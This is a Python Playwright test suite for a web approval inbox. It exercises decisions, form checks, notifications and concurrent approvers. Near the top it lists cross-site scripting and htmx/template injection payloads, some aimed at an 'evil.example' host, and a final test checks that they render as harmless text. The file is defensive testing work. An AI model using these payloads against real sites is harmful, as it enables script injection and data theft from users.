"""The inbox in a real Chromium: every kind of decision, several people, hostile text."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from tests.browser.person import MILLISECONDS, person
from tests.integration.gateway.harness import BEARER, House, Running
from tests.integration.gateway.test_api import approvals, ask, hire_bookkeeper
from tests.waiting_inbox import fill_inbox

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>here</a>",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<style>*{display:none}</style>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><button>x</button></form>",
    '" hx-get="https://evil.example/" hx-trigger="load" x="',
    '<div hx-on:click="alert(1)" hx-get="/logout" hx-trigger="load">x</div>',
    "{{ 7 * 7 }} {% raw %} ${alert(1)}",
    "\u202egpj.exe",
)
UNFOLD = "() => document.querySelectorAll('details').forEach(each => (each.open = true))"
WRITE = """() => document.querySelectorAll("[name='field:amount']").forEach(each => {
    each.value = "-5";
    each.dispatchEvent(new Event("input", {bubbles: true}));
})"""


@pytest.fixture(scope="module")
def full(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """Something of every kind waits, twice, and a bookkeeper can ask for more."""
    house = House(tmp_path_factory.mktemp("inbox") / "home").furnish()
    hire_bookkeeper(house)
    fill_inbox(house.home, count=2)
    with house.open() as running:
        yield running


@pytest.fixture(scope="module")
def operator(browser: Browser, full: Running) -> Iterator[Page]:
    with person(browser, full.url) as page:
        yield page


@pytest.fixture
def inbox(operator: Page, full: Running) -> Page:
    operator.goto(full.url + "/")
    return operator


@pytest.fixture
def at_rest(full: Running) -> None:
    """What was decided before has come to its end, and what that delivers is in the inbox."""

    def is_at_rest() -> bool:
        status = full.get("/api/status").json()
        return set(status["runs"]) <= {"waiting"} and status["undelivered"] == 0

    full.until(is_at_rest)


def card(page: Page, approval: dict[str, Any]) -> Locator:
    return page.locator(f"#q-{approval['id']}")


def waiting(full: Running, kind: str) -> dict[str, Any]:
    return next(each for each in approvals(full) if each["kind"] == kind)


def decision(full: Running, approval: dict[str, Any]) -> dict[str, Any]:
    def decided() -> dict[str, Any] | None:
        found: dict[str, Any] = full.get(f"/api/approvals/{approval['id']}").json()
        return found if found["decision"] else None

    found: dict[str, Any] = full.until(decided)
    return found


def test_what_a_person_reads(inbox: Page, full: Running) -> None:
    question = card(inbox, waiting(full, "confirm"))
    expect(question.get_by_text("45,000 USD")).to_be_visible()
    expect(question.get_by_text("Mon 30 Nov 2026")).to_be_visible()
    expect(question.get_by_text("min left")).to_be_visible()
    draft = card(inbox, waiting(full, "draft"))
    expect(draft.locator(".mail .body")).to_contain_text("Hello Sarah,")
    expect(draft.get_by_role("link", name="Open in mail program")).to_have_attribute(
        "href", re.compile(r"^mailto:sarah\.chen@acme\.example\?subject=Your%20question")
    )
    expect(card(inbox, waiting(full, "learning")).locator(".added").first).to_be_visible()
    expect(card(inbox, waiting(full, "uncertain")).get_by_text("It was sent")).to_be_visible()
    kinds = inbox.locator("article[data-kind]").evaluate_all("found => found.map(each => each.dataset.kind)")
    assert kinds[:2] == ["uncertain", "uncertain"], "an effect that may have happened comes first"
    assert kinds.index("draft") > kinds.index("elicitation")


@pytest.mark.parametrize(
    ("kind", "button", "decided"),
    [
        ("confirm", "Reject", "reject"),
        ("low_confidence", "Approve", "approve"),
        ("draft", "I did it", "done"),
        ("uncertain", "It happened", "happened"),
        ("learning", "Approve", "approve"),
    ],
)
def test_each_kind_is_decided(inbox: Page, full: Running, kind: str, button: str, decided: str) -> None:
    asked = waiting(full, kind)
    shown = card(inbox, asked)
    shown.get_by_role("textbox").first.fill("because of the weather")
    shown.get_by_role("button", name=button, exact=True).click()
    expect(shown).to_have_count(0, timeout=MILLISECONDS)
    found = decision(full, asked)
    assert (found["decision"], found["decided_by"], found["note"]) == (
        decided,
        "operator",
        "because of the weather",
    )


def test_a_question_of_a_server_is_a_form(inbox: Page, full: Running) -> None:
    asked = waiting(full, "elicitation")
    shown = card(inbox, asked)
    shown.get_by_label("city").press_sequentially("X")
    expect(shown.locator(".check")).to_have_text(re.compile("shorter than"), timeout=MILLISECONDS)
    shown.get_by_label("city").fill("Oslo")
    expect(shown.locator(".check")).to_have_text("", timeout=MILLISECONDS)
    shown.get_by_role("button", name="Send this").click()
    assert '"Oslo"' in decision(full, asked)["answer"]


def test_what_was_written_before_the_form_was_ready_is_checked(inbox: Page, full: Running) -> None:
    shown = card(inbox, waiting(full, "confirm"))
    inbox.evaluate(f"document.addEventListener('htmx:afterSwap', {WRITE})")
    shown.get_by_text("Change it first").click(timeout=MILLISECONDS)
    expect(shown.get_by_text("less than the minimum of 1")).to_be_visible(timeout=MILLISECONDS)


def test_fields_are_checked_as_somebody_types(inbox: Page, full: Running) -> None:
    asked = waiting(full, "confirm")
    shown = card(inbox, asked)
    shown.get_by_text("Change it first").click()
    amount = shown.locator("[name='field:amount']")
    amount.fill("-5")
    problem = shown.get_by_text("less than the minimum of 1")
    expect(problem).to_be_visible(timeout=MILLISECONDS)
    amount.fill("a lot")
    expect(shown.get_by_text("amount is not a number")).to_be_visible(timeout=MILLISECONDS)
    shown.get_by_role("button", name="Approve as it stands here").click()
    expect(shown.get_by_role("alert")).to_contain_text("amount is not a number", timeout=MILLISECONDS)
    assert full.get(f"/api/approvals/{asked['id']}").json()["status"] == "pending"
    expect(amount).to_have_value("a lot")
    amount.fill("44000")
    shown.locator("[name='field:stage']").select_option("won")
    shown.get_by_role("button", name="Approve as it stands here").click()
    changed = decision(full, asked)["answer"]
    assert '"amount": 44000' in changed
    assert '"stage": "won"' in changed


def test_e_opens_the_form_and_r_answers(inbox: Page, full: Running) -> None:
    asked = ask(full)
    shown = card(inbox, asked)
    shown.focus(timeout=MILLISECONDS)
    inbox.keyboard.press("e")
    expect(shown.locator("[name='field:line']")).to_be_visible()
    inbox.keyboard.press("r")
    expect(shown.get_by_label("Note, or an answer")).to_be_focused()
    inbox.keyboard.type("yes, but tomorrow")
    inbox.keyboard.press("Enter")
    found = decision(full, asked)
    assert (found["decision"], found["note"]) == ("respond", "yes, but tomorrow"), "Enter never approves"


def test_a_draft_is_copied(inbox: Page, full: Running) -> None:
    inbox.context.grant_permissions(["clipboard-read", "clipboard-write"])
    shown = card(inbox, waiting(full, "draft"))
    text = shown.locator(".mail .body, .fields").first.inner_text()
    shown.get_by_role("button", name="Copy").click()
    is_copied = "text => navigator.clipboard.readText().then((copied) => copied === text)"
    inbox.wait_for_function(is_copied, arg=text)  # the list may have come again, with its label as before


NOTED = """() => {
  window.notes = [];
  Object.defineProperty(document, "hidden", { get: () => true });
  window.Notification = class extends EventTarget {
    static permission = "granted";
    constructor(title, about) { super(); window.notes.push(`${title}: ${about.body}`); }
  };
}"""
"""A browser that may notify, whose window is behind others; what it shows is kept."""


@pytest.mark.usefixtures("at_rest")
def test_somebody_looks_elsewhere_and_is_notified(inbox: Page, full: Running) -> None:
    inbox.evaluate(NOTED)
    before = int(inbox.locator("[data-total]").get_attribute("data-total") or "")
    assert inbox.title() == f"({before}) Inbox · Colleague"
    ask(full)
    expect(inbox).to_have_title(f"({before + 1}) Inbox · Colleague", timeout=MILLISECONDS)
    assert inbox.evaluate("() => window.notes") == [f"Colleague: {before + 1} things wait for you"]


def test_permitted_for_a_while(inbox: Page, full: Running) -> None:
    asked = ask(full)
    shown = card(inbox, asked)
    shown.get_by_text("Change it first").click()
    shown.get_by_label("for", exact=True).select_option("30 minutes")
    shown.get_by_label("only while line is this").check()
    shown.get_by_role("button", name="Approve as it stands here").click()
    expect(inbox.get_by_text("not asked again")).to_be_visible(timeout=MILLISECONDS)
    full.ended(asked["run_id"])
    [grant] = full.get("/api/grants").json()
    assert grant["operation"] == "ledger.append"
    told = full.post("/api/experts/bookkeeper/runs", {"process": "work"}).json()
    assert full.ended(told["run_id"])["approvals"] == []
    full.client.request("DELETE", f"/api/grants/{grant['id']}", headers=BEARER)


def test_several_at_once_each_by_itself(inbox: Page, full: Running) -> None:
    first, second = ask(full), ask(full)
    for each in (first, second):
        card(inbox, each).locator("[name^='pick:']").check(timeout=MILLISECONDS)
    document = {"decision": "reject", "digest": first["digest"], "by": "bert"}
    with inbox.expect_response(re.compile("/inbox/items")):
        assert full.post(f"/api/approvals/{first['id']}", document).status_code == 200
    inbox.goto(full.url + "/")  # a page that was not told: both are sent
    key = inbox.locator("input[name=form_key]").first.input_value()
    picked = {f"pick:{each['id']}": each["digest"] for each in (first, second)}
    told = inbox.request.post(full.url + "/inbox", form={"form_key": key, "decision": "approve", **picked})
    assert "was rejected by bert already" in told.text()
    assert decision(full, second)["decided_by"] == "operator"
    assert decision(full, first)["decided_by"] == "bert"


def test_ticks_stay_when_the_list_loads_again(inbox: Page, full: Running) -> None:
    first, second = ask(full), ask(full)
    card(inbox, first).locator("[name^='pick:']").check(timeout=MILLISECONDS)
    third = ask(full)
    expect(card(inbox, third)).to_be_visible(timeout=MILLISECONDS)
    expect(card(inbox, first).locator("[name^='pick:']")).to_be_checked()
    card(inbox, second).locator("[name^='pick:']").check()
    inbox.locator("#batch").get_by_role("button", name="Approve").click()
    assert {decision(full, each)["decision"] for each in (first, second)} == {"approve"}
    expect(card(inbox, first)).to_have_count(0, timeout=MILLISECONDS)
    assert full.get(f"/api/approvals/{third['id']}").json()["status"] == "pending"


def test_what_is_unfolded_while_the_list_loads_again_is_loaded(inbox: Page, full: Running) -> None:
    shown = card(inbox, ask(full))
    expect(shown).to_be_visible(timeout=MILLISECONDS)
    inbox.evaluate(f"document.addEventListener('htmx:afterSwap', {UNFOLD})")
    ask(full)
    expect(shown.locator(".sources .loaded > a")).to_have_count(0, timeout=MILLISECONDS)
    expect(shown.locator("[name='field:line']")).to_be_visible(timeout=MILLISECONDS)


def test_a_click_that_began_before_the_list_loads_again_counts(inbox: Page, full: Running) -> None:
    asked = ask(full)
    card(inbox, asked).get_by_role("button", name="Approve", exact=True).hover(timeout=MILLISECONDS)
    inbox.mouse.down()
    with inbox.expect_response(re.compile("/inbox/items")):
        later = ask(full)
    inbox.mouse.up()
    assert decision(full, asked)["decided_by"] == "operator"
    expect(card(inbox, later)).to_be_visible(timeout=MILLISECONDS)


def test_the_list_loads_again_when_a_press_is_over(inbox: Page, full: Running) -> None:
    inbox.mouse.move(5, 300)  # beside what can be clicked
    inbox.mouse.down()
    with inbox.expect_response(re.compile("/inbox/items")):
        asked = ask(full)
    inbox.mouse.up()
    expect(card(inbox, asked)).to_be_visible(timeout=MILLISECONDS)


def test_what_could_not_be_loaded_is_loaded_when_it_is_opened_again(inbox: Page, full: Running) -> None:
    asked = ask(full)
    form, summary = f"{full.url}/inbox/{asked['id']}/edit", card(inbox, asked).get_by_text("Change it first")
    inbox.route(form, lambda route: route.abort())
    with inbox.expect_request(form):
        summary.click(timeout=MILLISECONDS)
    summary.click()
    inbox.unroute(form)
    summary.click()
    expect(card(inbox, asked).locator("[name='field:line']")).to_be_visible(timeout=MILLISECONDS)


def test_what_another_person_decides_shows_at_once(browser: Browser, inbox: Page, full: Running) -> None:
    asked = ask(full)
    shown = card(inbox, asked)
    shown.get_by_text("Change it first").click(timeout=MILLISECONDS)
    shown.locator("[name='field:line']").fill("somebody is writing here")
    link = full.post("/api/people", {"name": "anna", "role": "approver"}).json()["path"]
    with person(browser, full.url, size="phone", link=link) as phone:
        card(phone, asked).get_by_role("button", name="Approve", exact=True).click()
        expect(inbox.locator("#decided")).to_contain_text("anna decided ledger.append", timeout=MILLISECONDS)
        expect(shown.locator(".settled-by")).to_contain_text("anna")
        expect(shown.locator("[name='field:line']")).to_have_value("somebody is writing here")
        shown.get_by_role("button", name="Approve as it stands here").click()
        expect(shown.get_by_role("alert")).to_contain_text("was approved by anna already")


@pytest.mark.usefixtures("at_rest")
def test_failed_runs_escalations_and_what_is_to_be_read(inbox: Page, full: Running) -> None:
    before = len(full.get("/api/deadletters").json())
    with inbox.expect_navigation(timeout=MILLISECONDS):
        inbox.get_by_role("button", name="Let it be").first.click()
    full.until(lambda: len(full.get("/api/deadletters").json()) == before - 1)
    unread = full.get("/api/deliveries").json()
    with inbox.expect_navigation(timeout=MILLISECONDS):
        inbox.locator("article.told").first.get_by_role("button", name="I have read it").click()
    full.until(lambda: len(full.get("/api/deliveries").json()) == len(unread) - 1)
    inbox.get_by_role("link", name="Correct its inputs first").first.click()
    inbox.get_by_label("message_id").fill("m-2")
    inbox.get_by_role("button", name="Try again with these").click()
    expect(inbox).to_have_url(full.url + "/")


def test_known_payloads_stay_text(browser: Browser, tmp_path: Path) -> None:
    house = House(tmp_path / "home").furnish()
    fill_inbox(house.home, text=" ".join(PAYLOADS))
    with house.open() as running, person(browser, running.url) as page:
        strange: list[str] = []
        page.on("request", lambda asked: strange.append(asked.url) if "evil" in asked.url else None)
        found = approvals(running)
        for path in ("/", *(f"/inbox/{each['id']}" for each in found)):
            page.goto(running.url + path)
            page.evaluate(UNFOLD)
            expect(page.locator(".loaded > a")).to_have_count(0, timeout=MILLISECONDS)
            assert page.locator("main script, main img, main iframe, main style, main base").count() == 0
            links = page.locator("main a").evaluate_all("found => found.map(each => each.protocol)")
            assert set(links) <= {"http:", "mailto:"}
            assert page.locator("[hx-on\\:click], [hx-get*=evil], form[action*=evil]").count() == 0
        assert "alert(1)" in page.locator("main").inner_text()
        assert strange == []
